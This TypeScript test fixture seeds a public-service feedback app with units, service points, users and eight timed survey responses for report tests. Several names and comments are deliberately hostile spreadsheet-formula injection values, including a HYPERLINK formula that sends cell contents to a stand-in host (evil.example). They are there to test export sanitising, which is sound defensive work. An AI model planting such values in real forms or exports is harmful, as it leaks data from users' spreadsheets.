import { expect } from "vitest";
import { type Credentials, createTestApp, type TestApp } from "../../helpers/create-test-app.js";
import { makePoint, makeService, makeUnit, makeUser } from "../../helpers/factories.js";

// The reports fixture: a small province built through the catalogue factories, and eight responses sent
// through the real POST /api/v1/responses with the clock moved to chosen instants, over February and
// March 2026. Every expected figure in the report tests is worked out by hand from the table below.
//
//  id  point (unit, form)     service   local time              answers                          comment
//  R1  P1 (STP, full)         S1        2026-02-10 10:00        TC1 5, TC2 4, TT1 3, CC1 2       =HYPERLINK…
//  R2  P1 (STP, full)         S2        2026-02-28 23:30 (last  TC1 2, CC1 5, CC2 4, KQ1 4,      -5 điểm…
//                                        day of Feb, 16:30Z)     PA1 1
//  R3  P2 (STP, quick)        –         2026-02-20 09:00        TC 4, TT 5, CC 3, KQ 5           办事人员…
//  R4  P3 (HCTP, full, S1)    S1 fixed  2026-02-15 14:00        TC1 4, TC2 4, TT1 5, KQ1 3, PA1 5
//  R5  P1 (STP, full)         S1        2026-03-01 00:15 (still TC1 3, TT1 4, CC1 4
//                                        Feb 28 in UTC)
//  R6  P2 (STP, quick)        S1        2026-03-10 08:00        TC 5, CC 5, PA 2                 +1 rất tốt
//  R7  P3 (HCTP, full, S1)    S1 fixed  2026-03-14 16:00        TC1 1, TC2 5, CC1 4              phone → masked
//  R8  P4 (SNV, full)         –         2026-03-05 11:00        TC1 5
//
// Units: H35 (province, no points) → STP → HCTP, and H35 → SNV. P5 (STP) is active without responses; P6
// (STP) is archived without responses. Names and labels are hostile on purpose.

export const HOSTILE = {
  hctpName: '-Phòng "Hành chính, tư pháp"',
  snvName: "\t=1+1 Sở Ngoại vụ",
  p2Label: "@Quầy nhanh",
  p4Label: "+Quầy 4\nLãnh sự",
  s2Name: "=1+1 Cấp Phiếu lý lịch tư pháp",
  r1Comment: '=HYPERLINK("http://evil.example/?"&A1,"bấm vào")',
  r2Comment: '-5 điểm vì chờ "quá" lâu, lần sau\nnhớ sửa',
  r3Comment: "办事人员很热情，效率很高。",
  r6Comment: "+1 rất tốt",
  r7Comment: "Gọi tôi 0912 345 678 nhé",
};

/** 10:00 local time (03:00Z) on a day, or the given local hour and minute. */
export const localTime = (day: string, hour = 10, minute = 0) =>
  Date.parse(`${day}T00:00:00Z`) + (hour - 7) * 3_600_000 + minute * 60_000;

export type Fixture = Awaited<ReturnType<typeof buildFixture>>;

/** Builds the fixture in a fresh test app; `ids` maps R1…R8 to the stored response ids. */
export async function buildFixture() {
  const t = await createTestApp();
  await makeUnit(t, { code: "H35", name: "UBND tỉnh Lạng Sơn" });
  await makeUnit(t, { code: "STP", name: "Sở Tư pháp", parent: "H35" });
  await makeUnit(t, { code: "HCTP", name: HOSTILE.hctpName, parent: "STP" });
  await makeUnit(t, { code: "SNV", name: HOSTILE.snvName, parent: "H35" });
  await makeService(t, { code: "1.001193", name: "Đăng ký khai sinh", units: ["STP", "HCTP"] });
  await makeService(t, { code: "2.000488", name: HOSTILE.s2Name, units: ["STP"] });
  const points = {
    P1: await makePoint(t, { unit: "STP", code: "KAAAA2", label: "Quầy số 1" }),
    P2: await makePoint(t, { unit: "STP", code: "KBBBB3", label: HOSTILE.p2Label, form: "quick" }),
    P3: await makePoint(t, { unit: "HCTP", code: "KCCCC4", label: "Quầy số 3", service: "1.001193" }),
    P4: await makePoint(t, { unit: "SNV", code: "KDDDD5", label: HOSTILE.p4Label }),
    P5: await makePoint(t, { unit: "STP", code: "KEEEE6", label: "Quầy trống" }),
    P6: await makePoint(t, { unit: "STP", code: "KFFFF7", label: "Quầy cũ", archived: true }),
  };
  const users = {
    admin: await makeUser(t, { role: "admin" }),
    provinceAnalyst: await makeUser(t, { role: "analyst", unit: "H35" }),
    stpAnalyst: await makeUser(t, { role: "analyst", unit: "STP" }),
    stpAdmin: await makeUser(t, { role: "admin", unit: "STP" }),
    snvAnalyst: await makeUser(t, { role: "analyst", unit: "SNV" }),
    staff: await makeUser(t, { role: "staff", unit: "STP" }),
  };
  const ids: Record<string, string> = {};
  const send = async (
    name: string,
    at: number,
    point: { code: string },
    answers: Record<string, number>,
    extra: Record<string, unknown> = {},
  ) => {
    t.clock.set(at);
    const id = crypto.randomUUID();
    const res = await t.request("POST", "/api/v1/responses", {
      body: { id, point: point.code, lang: "vi", answers, ...extra },
    });
    expect(res.status, `${name}: ${await res.clone().text()}`).toBe(201);
    ids[name] = id;
  };
  const { P1, P2, P3, P4 } = points;
  await send(
    "R1",
    localTime("2026-02-10"),
    P1,
    { TC1: 5, TC2: 4, TT1: 3, CC1: 2 },
    {
      service: "1.001193",
      comment: HOSTILE.r1Comment,
      expectations: { E1: 1, E4: 3 },
      respondent: { gender: "female", ageBand: "35-49" },
    },
  );
  await send(
    "R2",
    Date.UTC(2026, 1, 28, 16, 30),
    P1,
    { TC1: 2, CC1: 5, CC2: 4, KQ1: 4, PA1: 1 },
    {
      service: "2.000488",
      comment: HOSTILE.r2Comment,
      lang: "en",
    },
  );
  await send(
    "R3",
    localTime("2026-02-20", 9),
    P2,
    { TC: 4, TT: 5, CC: 3, KQ: 5 },
    {
      comment: HOSTILE.r3Comment,
      lang: "zh",
    },
  );
  await send("R4", localTime("2026-02-15", 14), P3, { TC1: 4, TC2: 4, TT1: 5, KQ1: 3, PA1: 5 });
  await send("R5", Date.UTC(2026, 1, 28, 17, 15), P1, { TC1: 3, TT1: 4, CC1: 4 }, { service: "1.001193" });
  await send(
    "R6",
    localTime("2026-03-10", 8),
    P2,
    { TC: 5, CC: 5, PA: 2 },
    {
      service: "1.001193",
      comment: HOSTILE.r6Comment,
    },
  );
  await send(
    "R7",
    localTime("2026-03-14", 16),
    P3,
    { TC1: 1, TC2: 5, CC1: 4 },
    { comment: HOSTILE.r7Comment },
  );
  await send("R8", localTime("2026-03-05", 11), P4, { TC1: 5 });
  return { t, points, users, ids };
}

/** A GET through the app as a user; the body read as JSON, text or bytes by the caller. */
export function get(t: TestApp, path: string, auth?: Credentials) {
  return t.request("GET", path, auth ? { auth } : {});
}
